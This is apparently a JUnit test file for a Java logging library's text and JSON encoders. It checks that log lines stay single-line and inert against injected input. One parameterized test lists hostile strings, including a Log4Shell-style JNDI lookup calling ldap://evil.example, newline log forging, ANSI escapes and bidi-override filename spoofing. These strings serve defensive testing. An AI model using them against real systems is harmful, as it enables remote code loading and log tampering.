package dev.sluice.logging;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.LoggerContext;
import ch.qos.logback.classic.spi.LoggingEvent;
import ch.qos.logback.classic.util.LogbackMDCAdapter;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.ZoneId;
import java.util.List;
import java.util.Map;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.slf4j.event.KeyValuePair;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

class LinesTest {
    private static final ZoneId ZONE = ZoneId.of("Asia/Shanghai");
    private static final Instant TIME = Instant.parse("2030-01-02T03:04:05.678Z");

    private final TextLines text = new TextLines(ZONE);
    private final JsonLines json = new JsonLines(ZONE);

    @Test
    void aLineForPeopleSaysWhenWhatAndWith() {
        assertThat(text(event("hello", "model", "sim-1")))
                .isEqualTo("2030-01-02T11:04:05.678+08:00 INFO  Relay: hello model=sim-1\n");
    }

    @Test
    void aLineForMachinesIsOneObject() {
        JsonNode line = JsonMapper.shared().readTree(json(event("say \"hi\" \\", "model", "模型")));

        assertThat(line.path("time").asString()).isEqualTo("2030-01-02T11:04:05.678+08:00");
        assertThat(line.path("level").asString()).isEqualTo("INFO");
        assertThat(line.path("logger").asString()).isEqualTo("dev.sluice.Relay");
        assertThat(line.path("message").asString()).isEqualTo("say \"hi\" \\");
        assertThat(line.path("model").asString()).isEqualTo("模型");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "a\nFAKE INFO line",
                "a\r\nb",
                "a\u0085b",
                "a\u2028b\u2029c",
                "\u001b[31mred\u001b[0m",
                "\u009b31m",
                "\u202egnp.exe",
                "\u2066x\u2069",
                "zero\u200bwidth\ufeff",
                "nul\0 bell\7 back\b",
                "${jndi:ldap://evil.example/a}"
            })
    void whateverIsLoggedItIsOneLineAndInert(String evil) {
        LoggingEvent event = event("said " + evil, "field", evil);
        event.setMDCPropertyMap(Map.of(evil, evil));

        for (String line : List.of(text(event), json(event))) {
            assertThat(line.lines()).hasSize(1);
            assertThat(line.stripTrailing().codePoints())
                    .noneMatch(c ->
                            Character.isISOControl(c)
                                    || Character.getType(c) == Character.FORMAT
                                    || Character.getType(c) == Character.LINE_SEPARATOR
                                    || Character.getType(c) == Character.PARAGRAPH_SEPARATOR);
        }
        assertThat(JsonMapper.shared().readTree(json(event)).path("field").asString())
                .isEqualTo(evil);
    }

    @Test
    void aFailureIsOneLineOfJson() {
        LoggingEvent event =
                event("failed", new IllegalStateException("a\n\tFAKE", new Error("b")));

        assertThat(json(event).lines()).hasSize(1);
        assertThat(JsonMapper.shared().readTree(json(event)).path("stack").asString())
                .startsWith("java.lang.IllegalStateException: a\n\tFAKE\n\t")
                .contains("LinesTest")
                .contains("caused by java.lang.Error: b");
    }

    @Test
    void aFailureForPeopleFollowsOnLinesThatNoRecordBeginsLike() {
        LoggingEvent event =
                event("failed", new IllegalStateException("a\n2030-01-01T00:00:00.000Z FAKE"));

        assertThat(text(event).lines().skip(1))
                .isNotEmpty()
                .allMatch(line -> line.startsWith("\t"));
    }

    @Test
    void aFieldThatIsCalledLikeAStandardOneDoesNotHideIt() {
        JsonNode line = JsonMapper.shared().readTree(json(event("true", "message", "false")));

        assertThat(line.path("message").asString()).isEqualTo("true");
        assertThat(line.path("message_").asString()).isEqualTo("false");
    }

    private String text(LoggingEvent event) {
        return new String(text.encode(event), StandardCharsets.UTF_8);
    }

    private String json(LoggingEvent event) {
        return new String(json.encode(event), StandardCharsets.UTF_8);
    }

    private static LoggingEvent event(String message, String name, String value) {
        LoggingEvent event = event(message, null);
        event.addKeyValuePair(new KeyValuePair(name, value));
        return event;
    }

    private static LoggingEvent event(String message, @Nullable Throwable failure) {
        LoggerContext context = new LoggerContext();
        context.setMDCAdapter(new LogbackMDCAdapter());
        LoggingEvent event =
                new LoggingEvent(
                        LinesTest.class.getName(),
                        context.getLogger("dev.sluice.Relay"),
                        Level.INFO,
                        message,
                        failure,
                        new Object[0]);
        event.setInstant(TIME);
        event.setThreadName("loop");
        return event;
    }
}
